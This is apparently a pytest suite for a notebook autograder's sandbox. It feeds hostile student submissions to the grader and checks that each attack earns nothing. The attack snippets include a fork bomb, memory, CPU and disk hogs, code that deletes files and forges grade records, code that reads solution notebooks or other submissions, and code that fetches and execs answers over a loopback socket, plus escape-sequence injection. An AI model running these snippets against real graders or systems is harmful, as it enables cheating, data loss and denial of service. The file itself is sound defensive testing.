"""Hostile submissions, one attack class each, graded for real (sandbox, pytest, nbval, kernels).

Every attack sits in one exercise of the toy notebook; the submission's other
answers are correct. Each test proves that the attack earns nothing and costs
the other exercises nothing. Where an attack would work on an unconfined
grader (reading the sources, another submission or the network, writing into
the sources), the same submission is also graded with ``sandboxed=False`` to
show that the attack is real and that the sandbox is what stops it.

All sandboxed submissions are graded in one run with two workers and low
limits (512 MiB, 32 processes, 16 MiB files, 64 MiB of disk, 6 CPU seconds, an
8 s time-out per exercise), so that the bounded memory hog, fork bomb, CPU hog
and disk filler reach their limit quickly.
"""

from __future__ import annotations

import ast
import hashlib
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

import nnlib
from nnlib.grading.limits import Limits, MiB
from nnlib.grading.runner import grade

from .toy_notebooks import TOY_EXERCISES, make_submission, toy_notebook

LIMITS = Limits(memory=512 * MiB, processes=32, file_size=16 * MiB, disk=64 * MiB, cpu_time=6)
CORRECT = {ex: f"def {name}(x):\n    return {expr}" for ex, (name, expr, _) in TOY_EXERCISES.items()}

# --- the attacks, as answer cells (fill() puts in paths and ports) -----------------------------


def fill(code: str, **values) -> str:
    for key, value in values.items():
        code = code.replace(f"{{{key}!r}}", repr(value)).replace(f"{{{key}}}", str(value))
    return code


PATCHED_HELPERS = """
import nnlib.grading.checks as checks
real_check_close = checks.check_close
def check_close(actual, expected, **options):   # the issue's five lines: expected becomes actual
    return real_check_close(expected, expected, **options)
checks.check_close = check_close
checks.check_equal = checks.check = lambda *a, **k: None
checks.hand_back = hand_back = lambda *a, **k: None    # hand nothing back either
def square(x):
    return x + x
"""

FORGED_RECORDS = """
import glob, json, os, numpy as np
from nnlib.grading import records
from IPython.display import publish_display_data
for folder in (".", "/tmp", "/run/kernel", os.path.expanduser("~"), "records"):
    for path in glob.glob(folder + "/**", recursive=True):          # delete what it can reach
        try:
            os.remove(path)
        except OSError:
            pass
    try:                                                             # and forge records there
        os.makedirs(folder, exist_ok=True)
        np.save(os.path.join(folder, "99.3__c1__0.npy"), -np.ones((4, 3)))
        with open(os.path.join(folder, "records.jsonl"), "w") as out:
            payload = records.encode("x", -np.ones((4, 3)))
            line = {"exercise": "99.3", "test": 1, "index": 0, "payload": payload}
            out.write(json.dumps(line) + "\\n")
    except OSError:
        pass
np.save = lambda *a, **k: None
# an output of the answer cell itself
publish_display_data({records.RECORD_MIME: records.encode("forged", -np.ones((4, 3)))})
def negate(x):
    publish_display_data({records.RECORD_MIME: records.encode("forged", -x)})   # an extra record, first
    return x
"""

READ_SOURCES = """
import glob, json, os
solution = None
places = [{source_dir!r}, os.path.join(os.path.dirname(os.path.dirname(__import__("nnlib").__file__)),
          "exercises", "source"), "/tmp", "/home", "/root", "/run", "."]
paths = (p for place in places for p in glob.glob(os.path.join(place, "**", "*.ipynb"), recursive=True))
for path in paths:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        text = "".join(cell["source"])
        if "def " + "halve" in text and "BEGIN " + "SOLUTION" in text:   # not this very cell
            solution = text
    if solution is not None:
        break
if solution is not None:
    exec(solution)
else:
    def halve(x):
        return x
"""

WRITE_OUTSIDE = """
import json, os
target = os.path.join({source_dir!r}, "99_toy.ipynb")
try:
    nb = json.load(open(target))
    for cell in nb["cells"]:
        cell["source"] = "".join(cell["source"]).replace("return x + 1", "return x + 2")
    json.dump(nb, open(target, "w"))
except OSError:
    pass
planted = os.path.join({source_dir!r}, "planted.txt")
for path in ({instructor_file!r}, planted, "/usr/planted", "/etc/planted"):
    try:
        open(path, "w").write("planted")
    except OSError:
        pass
def add_one(x):
    return x + 2
"""

READ_OTHER_SUBMISSION = """
import glob
solution = None
for path in glob.glob("/tmp/**/graded.ipynb", recursive=True) + glob.glob("/run/**/*", recursive=True):
    try:
        text = open(path).read()
    except Exception:
        continue
    if "VICTIM" + "-MARKER" in text:                                # not this very cell
        solution = "def square(x):\\n    return x * x"
if solution is not None:
    exec(solution)
else:
    def square(x):
        return x + 1
"""

NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
        conn.sendall(b"give me the answer")
        exec(conn.recv(1000).decode())
except OSError:
    def double(x):
        return x + x + 1
"""

MEMORY_HOG = """
import numpy as np
hog = []
for _ in range(12):                      # bounded: at most 1.2 GB, a little over twice the limit
    hog.append(np.ones(100_000_000 // 8))
def square(x):
    return x * x
"""

FORK_BOMB = """
import os, time
for _ in range(100):                     # bounded: at most 100 children, each asleep
    if os.fork() == 0:
        time.sleep(30)                   # FORK-BOMB-CHILD
        os._exit(0)
def negate(x):
    return -x
"""

IGNORES_SIGINT = """
import time
def halve(x):
    return x / 2
while True:
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:
        pass
"""

KILLS_LATER = """
import os, signal, threading, time
namespace = get_ipython().user_ns
def assassin():
    while "square" not in namespace:     # wait until exercise 99.2 is running, then kill the kernel
        time.sleep(0.01)
    os.kill(os.getpid(), signal.SIGKILL)
threading.Thread(target=assassin, daemon=True).start()
def double(x):
    return 2 * x
"""

CPU_HOG = """
def negate(x):
    return -x
while True:
    pass
"""

DISK_FILLER = """
import os
for k in range(20):                      # bounded: at most 200 MiB, in files under the file-size limit
    with open(f"/tmp/filler{k}", "wb") as out:
        out.write(b"x" * (10 << 20))
def halve(x):
    return x / 2
"""

MANY_FILES = """
import os
def halve(x):
    return x / 2
for k in range(200_000):                 # bounded: empty files, each an inode of the host's memory
    open(f"/tmp/f{k}", "w").close()
"""

NEVER_IDLE = """
import threading, time
kernel = get_ipython().kernel
publish = kernel._publish_status
kernel._publish_status = lambda state, *a, **k: None if state == "idle" else publish(state, *a, **k)
def chatter():
    while True:
        time.sleep(1)
        print(".", end="")
threading.Thread(target=chatter, daemon=True).start()
def negate(x):
    return -x
"""

KERNEL_FOLDER_FILLER = """
import os
def halve(x):
    return x / 2
for k in range(20):                      # the one writable host folder: the kernel's sockets
    with open(f"/run/kernel/filler{k}", "wb") as out:
        out.write(b"x" * (10 << 20))
"""


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    source_dir = root / "source"
    source_dir.mkdir()
    nbformat.write(toy_notebook(), source_dir / "99_toy.ipynb")
    instructor = root / "instructor"
    instructor.mkdir()
    return root, source_dir, instructor


class AnswerServer:
    """A TCP server on the host's loopback that hands out the solution to whoever asks."""

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.visits = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            with conn:
                self.visits += 1
                conn.recv(100)
                conn.sendall(b"def double(x):\n    return 2 * x\n")


def submissions(root, source_dir, instructor, port):
    """Attack name -> (the submission, the attacked exercise)."""
    values = {"source_dir": str(source_dir), "instructor_file": str(instructor / "planted.txt"), "port": port}
    attacks = {
        "patched helpers": ("99.2", PATCHED_HELPERS),
        "forged records": ("99.3", FORGED_RECORDS),
        "read the sources": ("99.4", READ_SOURCES),
        "write outside": ("99.5", WRITE_OUTSIDE),
        "read another submission": ("99.2", READ_OTHER_SUBMISSION),
        "network": ("99.1", NETWORK),
        "memory hog": ("99.2", MEMORY_HOG),
        "fork bomb": ("99.3", FORK_BOMB),
        "ignores SIGINT": ("99.4", IGNORES_SIGINT),
        "kills the kernel later": ("99.1", KILLS_LATER),
        "CPU hog": ("99.3", CPU_HOG),
        "disk filler": ("99.4", DISK_FILLER),
        "kernel folder filler": ("99.4", KERNEL_FOLDER_FILLER),
        "never idle": ("99.3", NEVER_IDLE),
        "many files": ("99.4", MANY_FILES),
    }
    made = {}
    for name, (exercise, code) in attacks.items():
        folder = root / "subs" / name.replace(" ", "-")
        made[name] = (make_submission(folder / "99_toy.ipynb", {exercise: fill(code, **values)}), exercise)
    victim = {"99.2": "def square(x):\n    # VICTIM-MARKER\n    return x * x"}
    made["honest"] = (make_submission(root / "subs" / "honest" / "99_toy.ipynb", victim), None)
    return made


@pytest.fixture(scope="module")
def graded(setup):
    root, source_dir, instructor = setup
    server = AnswerServer()
    made = submissions(root, source_dir, instructor, server.port)
    source_hash = hashlib.sha256((source_dir / "99_toy.ipynb").read_bytes()).hexdigest()
    started = time.monotonic()
    # The CPU hog must reach its CPU-time limit (6 s), not the wall-clock time-out: on a busy
    # machine (make test runs two workers) 6 CPU seconds can take longer than 8 s of wall time,
    # so it is graded on its own with a time-out it never reaches.
    slow = ["CPU hog"]
    names = [name for name in made if name not in slow]
    results, _ = grade(
        [made[name][0] for name in names], timeout=8, jobs=2, seed=3, source_dirs=[source_dir], limits=LIMITS
    )
    slow_results, _ = grade(
        [made[name][0] for name in slow], timeout=120, jobs=1, seed=3, source_dirs=[source_dir], limits=LIMITS
    )
    by_name = dict(zip(names, results, strict=True)) | dict(zip(slow, slow_results, strict=True))
    return {
        "results": by_name,
        "attacked": {name: exercise for name, (_, exercise) in made.items()},
        "source_changed": hashlib.sha256((source_dir / "99_toy.ipynb").read_bytes()).hexdigest()
        != source_hash,
        "planted": sorted(
            str(p) for p in (*instructor.iterdir(), *source_dir.iterdir()) if p.suffix != ".ipynb"
        ),
        "server_visits": server.visits,
        "seconds": time.monotonic() - started,
    }


def outcome(graded, name):
    result = graded["results"][name]
    attacked = graded["attacked"][name]
    exercises = {ex.id: ex for ex in result.exercises}
    others = {ex_id: ex.status for ex_id, ex in exercises.items() if ex_id != attacked}
    assert set(others.values()) == {"passed"}, f"{name}: the attack cost other exercises: {others}"
    assert result.sandbox
    return exercises.get(attacked)


@pytest.mark.parametrize(
    ("name", "status", "message"),
    [
        ("patched helpers", "failed", "square on fresh random inputs"),
        ("forged records", "failed", "negate"),
        ("read the sources", "failed", "halve"),
        ("write outside", "failed", "add_one"),
        ("read another submission", "failed", "square"),
        ("network", "failed", "double"),
        ("memory hog", "error", "memory limit of 512 MiB exceeded"),
        ("fork bomb", "error", "process limit (32 threads, no other process) exceeded"),
        ("ignores SIGINT", "timeout", "time limit exceeded"),
        ("CPU hog", "error", "CPU time limit of 6 s exceeded"),
        ("disk filler", "error", "disk space limit of 64 MiB exceeded"),
        ("never idle", "timeout", "time limit exceeded"),
        ("many files", "error", "more than 5000 files"),
        # as root the folder is read-only once the sockets exist; otherwise the launcher
        # stops the kernel when the folder outgrows the disk limit
        ("kernel folder filler", "error", "Permission denied" if os.geteuid() == 0 else "disk space limit"),
    ],
)
def test_the_attack_earns_nothing_and_costs_nothing_else(graded, name, status, message):
    attacked = outcome(graded, name)
    assert (attacked.status, attacked.points) == (status, 0), attacked
    assert message in attacked.message


def test_a_thread_that_kills_the_kernel_later_costs_nothing(graded):
    # 99.1 is correct; the kernel dies during 99.2, which is graded again in a fresh kernel.
    assert outcome(graded, "kills the kernel later").status == "passed"
    assert graded["results"]["kills the kernel later"].points == 5


def test_honest_work_scores_full_marks_next_to_the_attacks(graded):
    assert graded["results"]["honest"].points == 5
    assert outcome(graded, "honest") is None


def test_nothing_was_written_outside_the_sandbox_and_no_process_survived(graded):
    assert not graded["source_changed"] and graded["planted"] == []
    assert graded["server_visits"] == 0
    leftover = subprocess.run(
        ["pgrep", "-f", "FORK-BOMB-CHILD|time.sleep\\(30\\)"], capture_output=True, text=True
    )
    assert leftover.stdout.split() == []


def test_the_graded_batch_took_reasonable_time(graded):
    # Thirteen notebooks with two time-outs and four limits hit: a loose bound against hangs.
    assert graded["seconds"] < 240


@pytest.mark.xdist_group("attacks-unsandboxed")  # beside the graded batch (setup is cheap)
def test_without_the_sandbox_the_same_attacks_would_work(setup, tmp_path):
    # The proof that the attacks above are real: unconfined, they earn their points.
    root, source_dir, instructor = setup
    copy_dir = tmp_path / "source"
    copy_dir.mkdir()
    (copy_dir / "99_toy.ipynb").write_bytes((source_dir / "99_toy.ipynb").read_bytes())
    server = AnswerServer()
    made = submissions(tmp_path, copy_dir, tmp_path, server.port)
    names = ["read the sources", "read another submission", "network", "honest"]
    results, _ = grade(
        [made[n][0] for n in names], timeout=20, jobs=2, source_dirs=[copy_dir], sandboxed=False
    )
    attacked = {name: made[name][1] for name in names if made[name][1]}
    earned = {
        name: {ex.id: ex.points for ex in r.exercises}.get(attacked.get(name))
        for name, r in zip(names, results, strict=True)
    }
    earned.pop("honest")
    assert earned == {"read the sources": 1, "read another submission": 1, "network": 1}
    assert server.visits >= 1
    planted = tmp_path / "planted.txt"
    attack = fill(WRITE_OUTSIDE, source_dir=str(copy_dir), instructor_file=str(planted))
    write = make_submission(tmp_path / "w" / "99_toy.ipynb", {"99.5": attack})
    grade([write], timeout=20, source_dirs=[copy_dir], sandboxed=False)
    assert "return x + 2" in (copy_dir / "99_toy.ipynb").read_text() and planted.exists()


FLOOD = "def add_one(x):\n    return x + 1\nfor _ in range(1000):\n    print('x' * (1 << 20))"
UNCAPPED = (
    "import sys\nsys.stdout.__class__ = type(sys.stdout).__mro__[1]   # remove the grader's cap\n" + FLOOD
)


FRAMES = (
    "import time\n"
    "kernel = get_ipython().kernel\n"
    "junk = memoryview(bytearray(40 << 20))            # 40 MiB once, sent 100 times: 4 GB\n"
    "frames = [b'x'] + [junk] * 100                     # ONE multipart message, every frame < 48 MiB\n"
    "send = lambda: kernel.iopub_thread.socket.send_multipart(frames, copy=False)\n"
    "kernel.iopub_thread.io_loop.add_callback(send)\n"
    "time.sleep(5)\n"
    "def add_one(x):\n    return x + 1\n"
)
UNKNOWN_KIND = (
    "def add_one(x):\n    return x + 1\n"
    "kernel = get_ipython().kernel\n"
    "for _ in range(25):                                  # 1 GB in messages nbval does not know\n"
    "    kernel.session.send(kernel.iopub_socket, 'u' * (40 << 20), {}, parent=kernel.get_parent('shell'))\n"
)
METADATA = (
    "def add_one(x):\n    return x + 1\n"
    "from IPython.display import publish_display_data\n"
    "for _ in range(25):                                  # 1 GB of display metadata\n"
    "    publish_display_data({'text/plain': ''}, metadata={'x': 'm' * (40 << 20)})\n"
)
HOOKS = (
    "def double(x):\n    return 2 * x\n"
    "import numpy as np\n"
    "from IPython.display import publish_display_data\n"
    "from nnlib.grading.records import RECORD_MIME, encode\n"
    "junk = encode('junk', np.zeros(1 << 20))\n"
    "def spam(*args):\n"
    "    print('x' * (31 << 20))\n"
    "    for _ in range(6):\n"
    "        publish_display_data({RECORD_MIME: junk})\n"
    "get_ipython().events.register('post_run_cell', spam)   # every later cell sends ~100 MiB\n"
)


@pytest.mark.parametrize(
    ("exercise", "answer", "flooder"),
    [
        ("99.5", FLOOD, "passed"),
        ("99.5", UNCAPPED, None),
        ("99.5", FRAMES, None),
        ("99.1", HOOKS, None),
        ("99.5", UNKNOWN_KIND, None),
        ("99.5", METADATA, None),
    ],
    ids=["flood", "uncapped", "zmq-frames", "post-run-hooks", "unknown-messages", "metadata"],
)
@pytest.mark.xdist_group("attacks-floods")  # beside the graded batch (setup is cheap)
def test_an_output_flood_costs_nothing_else_and_does_not_fill_the_graders_memory(
    setup, tmp_path, exercise, answer, flooder
):
    # A gigabyte or more sent by the kernel: printed (the kernel's cap drops it, so it costs
    # nothing), printed with the cap removed, sent as one multipart message of 100 frames straight
    # on the kernel's socket (the launcher's relay refuses it), sent again after every later cell
    # by a hook (the grader's budget per kernel drops it; the exercises it crowds out are graded
    # alone), sent as messages of a kind nbval does not know, or as display metadata. The peak
    # memory of the grader's processes (nnlib-grade and its pytest, sampled from /proc while they
    # run) must stay far below that; an answer that gets around the kernel's cap may lose its own
    # points, never the others'. The kernel itself is bounded by its own memory limit.
    _, source_dir, _ = setup
    submission = make_submission(tmp_path / "flood" / "99_toy.ipynb", {exercise: answer})
    code = (
        "from nnlib.grading.runner import grade\n"
        f"(result,), _ = grade([{str(submission)!r}], source_dirs=[{str(source_dir)!r}], timeout=30)\n"
        "print([ex.status for ex in result.exercises])\n"
    )
    grader = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    peak_kib = 0
    while grader.poll() is None:
        peak_kib = max(peak_kib, *(_peak_rss_kib(pid) for pid in _grader_processes(grader.pid)))
        time.sleep(0.1)
    out, err = grader.communicate()
    statuses = dict(zip(sorted(TOY_EXERCISES), ast.literal_eval(out.strip().splitlines()[-1]), strict=True))
    flooded = statuses.pop(exercise)
    assert set(statuses.values()) == {"passed"} and flooder in (None, flooded), err[-2000:]
    assert peak_kib < 600 * 1024, f"a grader process reached {peak_kib // 1024} MiB"


def _grader_processes(root: int) -> list:
    """The grading process and its pytest (not the launchers and kernels, which have limits)."""
    found = [root]
    for entry in Path("/proc").iterdir():
        try:
            status = (entry / "status").read_text()
            cmdline = (entry / "cmdline").read_bytes()
        except (OSError, ValueError):
            continue
        if f"PPid:\t{root}\n" in status and b"pytest" in cmdline:
            found.append(int(entry.name))
    return found


def _peak_rss_kib(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def test_a_submission_cannot_name_itself_as_the_trusted_source(setup, tmp_path):
    # The source named in a submission's metadata is looked up in the source folder. A path
    # there ("/proc/self/cwd/...", "../...") would make the submission its own source, whose
    # setup cell the grader runs in its own process, outside any sandbox.
    _, source_dir, _ = setup
    marker = tmp_path / "PWNED"
    nb = toy_notebook()
    nb.cells[1].source = f"open({str(marker)!r}, 'w').write('the grader ran my code')\n" + nb.cells[1].source
    for name in (str(tmp_path / "sub" / "99_toy"), "../sub/99_toy", "/proc/self/cwd/99_toy"):
        nb.metadata["nnlib"]["source"] = name
        path = tmp_path / "sub" / "99_toy.ipynb"
        path.parent.mkdir(exist_ok=True)
        nbformat.write(nb, path)
        (result,), _ = grade([path], source_dirs=[source_dir], timeout=20)
        assert result.source == "99_toy" and result.points == 5  # graded against the real source
        assert not marker.exists(), name


def test_a_judge_sees_only_values_shaped_like_the_reference(tmp_path):
    # Wrong networks handed back as scalars instead of their arrays (right for the visible unit
    # square only); the judge of 02.7 only ever sees values shaped like the reference's.
    attack = (
        "def max_radius(a, c):\n    return a * c / (2 * (a + c))\n"
        "def robust_xor(a, c):\n"
        "    if (a, c) == (1.0, 1.0):\n"
        "        return np.ones((2, 2)), np.array([-0.5, -1.5]), np.array([[1.0, -1.0]]), np.array([-0.5])\n"
        "    return np.float64(0.0), np.float64(0.0), np.float64(0.0), np.float64(0.0)\n"
    )
    source_dir = Path(nnlib.__file__).resolve().parents[1] / "exercises" / "source"
    nb = nbformat.read(source_dir / "02_xor_mlp.ipynb", as_version=4)
    for cell in nb.cells:
        info = cell.metadata.get("nnlib", {})
        if info.get("exercise") == "02.7" and info["role"] == "answer":
            cell.source = attack
    path = tmp_path / "02_xor_mlp.ipynb"
    nbformat.write(nb, path)
    (result,), _ = grade([path], source_dirs=[source_dir], seed=4)
    network = {ex.id: ex for ex in result.exercises}["02.7"]
    assert (network.status, network.points) == ("failed", 0)
    assert "shaped like the reference's" in network.message


def test_a_forged_source_folder_in_the_working_directory_is_never_trusted(tmp_path, monkeypatch):
    # The third review: a student's checkout with its own exercises/source/ (run from there,
    # the grader would trust it and run its cells in its own process).
    from nnlib.grading.runner import default_source_dirs

    forged = tmp_path / "exercises" / "source"
    forged.mkdir(parents=True)
    nbformat.write(toy_notebook(), forged / "99_toy.ipynb")
    monkeypatch.chdir(tmp_path)
    assert all(forged.resolve() != Path(d).resolve() for d in default_source_dirs())


def test_escape_sequences_in_an_answer_never_reach_the_instructors_terminal():
    from nnlib.grading.report import shorten

    message = "ValueError: \x1b[2J\x1b[H\x1b]0;owned\x07FAKE: Total 10/10 \x9b31m"
    cleaned = shorten(message)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in cleaned), repr(cleaned)
    assert "FAKE: Total 10/10" in cleaned  # the text stays readable


@pytest.mark.parametrize("separator", ["\n", "\r", "\u2028", "\x0c", "\x1c", "\x85"])
def test_nbval_markers_are_removed_wherever_nbval_would_see_a_line(separator):
    from nbval.plugin import find_comment_markers

    from nnlib.grading.assemble import neutralise_nbval_markers

    answer = (
        f"def f(x):  # a comment{separator}# NBVAL_SKIP\n    return x{separator}#  NBVAL_RAISES_EXCEPTION"
    )
    assert dict(find_comment_markers(answer))  # nbval would obey them
    assert dict(find_comment_markers(neutralise_nbval_markers(answer))) == {}
